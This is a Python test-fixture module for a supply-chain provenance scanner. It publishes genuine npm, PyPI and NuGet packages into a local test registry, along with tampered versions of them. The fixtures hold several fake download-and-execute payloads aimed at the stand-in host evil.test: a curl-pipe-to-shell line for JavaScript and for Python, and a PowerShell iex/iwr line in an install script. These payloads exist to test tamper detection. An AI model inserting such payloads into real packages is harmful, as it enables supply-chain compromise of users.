"""The packages the end-to-end scan tests read lockfiles of, published once into a loopback World.

Each ecosystem gets one genuine package and one tampered package the genuine one depends on: npm `good-a`
(depends on `evil-b`, whose index.js gained code after packing), PyPI `goodpy` (sdist and wheel, depends on
`evilpy`, whose sdist module gained code not in its repository) and NuGet `Acme.Good` (depends on `Acme.Evil`,
whose nupkg carries an install script its repository lacks). `Catalog` keeps the bytes served for each, so
lockfile writers record the digests a real package manager would have recorded.
"""

from __future__ import annotations

import base64
import hashlib
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from ossprov.fixtures.nuget import nuspec, publish_nuget
from ossprov.fixtures.world import FORGE, World

INJECTED_JS = b"require('child_process').exec('curl http://evil.test/x | sh');\n"
INJECTED_PY = "import os\nos.system('curl http://evil.test/x | sh')\n"


@dataclass(frozen=True)
class Served:
    """One artifact file the loopback registry serves."""

    filename: str
    url: str
    data: bytes

    def hexdigest(self, algorithm: str) -> str:
        return hashlib.new(algorithm, self.data).hexdigest()

    def sri(self, algorithm: str = "sha512") -> str:
        """The `integrity` string npm, yarn and pnpm record."""
        return f"{algorithm}-" + base64.b64encode(hashlib.new(algorithm, self.data).digest()).decode()

    def b64(self, algorithm: str = "sha512") -> str:
        """NuGet's `contentHash`."""
        return base64.b64encode(hashlib.new(algorithm, self.data).digest()).decode()


@dataclass(frozen=True)
class Package:
    ecosystem: str
    name: str
    version: str
    purl: str
    files: tuple[Served, ...]
    """The first is the artifact ossprov verifies (the tarball, the sdist, the nupkg); wheels follow."""

    @property
    def main(self) -> Served:
        return self.files[0]


@dataclass
class Catalog:
    """The published packages by name, the registry's base URL and the environment that reaches them."""

    registry: str
    environment: dict[str, str]
    packages: dict[str, Package] = field(default_factory=dict)

    def __getitem__(self, name: str) -> Package:
        return self.packages[name]

    @property
    def pypi_index(self) -> str:
        return f"{self.registry}/pypi/simple"


def _publish_npm(world: World, catalog: Catalog) -> None:
    evil_repo, evil_dir = world.npm_project("acme/evil-b", "evil-b", "1.0.0")
    evil_repo.commit("release 1.0.0")
    clean = world.npm_pack(evil_dir)
    tampered = World.tamper_npm(clean, {"index.js": (evil_dir / "index.js").read_bytes() + INJECTED_JS})
    good_repo, good_dir = world.npm_project("acme/good-a", "good-a", "1.0.0",
                                            extra={"dependencies": {"evil-b": "^1.0.0"}})
    good_repo.commit("release 1.0.0")
    for name, tarball in (("evil-b", tampered), ("good-a", world.npm_pack(good_dir))):
        purl = world.publish_npm(tarball)
        url = world.packuments[name]["versions"]["1.0.0"]["dist"]["tarball"]
        catalog.packages[name] = Package("npm", name, "1.0.0", purl,
                                         (Served(f"{name}-1.0.0.tgz", url, tarball.read_bytes()),))


def _pyproject(name: str, deps: list[str]) -> str:
    listed = ", ".join(f'"{d}"' for d in deps)
    return f'[project]\nname = "{name}"\nversion = "1.0"\ndependencies = [{listed}]\n'


def _publish_pypi(world: World, catalog: Catalog) -> None:
    files_dir = world.root / "registry" / "pypi" / "files"
    for name, deps, evil in (("evilpy", [], True), ("goodpy", ["evilpy"], False)):
        repo = world.repo(f"acme/{name}")
        module = f"src/{name}/__init__.py"
        files = {"pyproject.toml": _pyproject(name, deps), module: f"def hello():\n    return '{name}'\n"}
        repo.commit("release 1.0", files)
        shipped = {**files, module: files[module] + INJECTED_PY} if evil else files
        meta = {"Project-URL": [f"Source, {FORGE}acme/{name}"], "Requires-Dist": deps}
        wheel = None if evil else {f"{name}/__init__.py": files[module]}
        purl = world.publish_pypi(name, "1.0", shipped, metadata=meta, wheel_files=wheel)
        names = [f"{name}-1.0.tar.gz"] + ([] if evil else [f"{name}-1.0-py3-none-any.whl"])
        served = tuple(Served(n, f"{world.server.url}/pypi/files/{n}", (files_dir / n).read_bytes()) for n in names)
        catalog.packages[name] = Package("pypi", name, "1.0", purl, served)


NUGET_REPO = {"src/{id}/{id}.csproj": "<Project><PropertyGroup><PackageId>{id}</PackageId>"
              "<Version>1.0.0</Version></PropertyGroup></Project>\n",
              "src/{id}/content/readme.txt": "{id}\n",
              "src/{id}/Lib.cs": "class Lib {{}}\n"}


def _publish_nuget(world: World, catalog: Catalog) -> None:
    for package_id, evil in (("Acme.Evil", True), ("Acme.Good", False)):
        slug = package_id.lower().replace(".", "-")
        repo = world.repo(f"acme/{slug}")
        sha = repo.commit("release 1.0.0", {k.format(id=package_id): v.format(id=package_id)
                                             for k, v in NUGET_REPO.items()})
        shipped: dict[str, str | bytes] = {"content/readme.txt": f"{package_id}\n",
                                           f"lib/net8.0/{package_id}.dll": b"MZ\x90\x00fixture assembly"}
        if evil:
            shipped["tools/install.ps1"] = "iex (iwr http://evil.test/p.ps1)\n"
        spec = nuspec(package_id, "1.0.0", repository=f"{FORGE}acme/{slug}.git", commit=sha)
        purl = publish_nuget(world, package_id, "1.0.0", spec, shipped)
        lower = package_id.lower()
        nupkg = world.root / "registry" / "nuget" / "flat" / lower / "1.0.0" / f"{lower}.1.0.0.nupkg"
        url = f"{world.server.url}/nuget/flat/{lower}/1.0.0/{nupkg.name}"
        catalog.packages[package_id] = Package("nuget", package_id, "1.0.0", purl,
                                               (Served(nupkg.name, url, nupkg.read_bytes()),))


def build_catalog(root: Path) -> tuple[World, Catalog]:
    """Start a World under `root` and publish every package into it (git runs against the World's config)."""
    world = World(root).start()
    assert world.server
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GIT_CONFIG_GLOBAL", str(root / "gitconfig"))
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        catalog = Catalog(world.server.url, world.environment())
        _publish_npm(world, catalog)
        _publish_pypi(world, catalog)
        _publish_nuget(world, catalog)
    return world, catalog
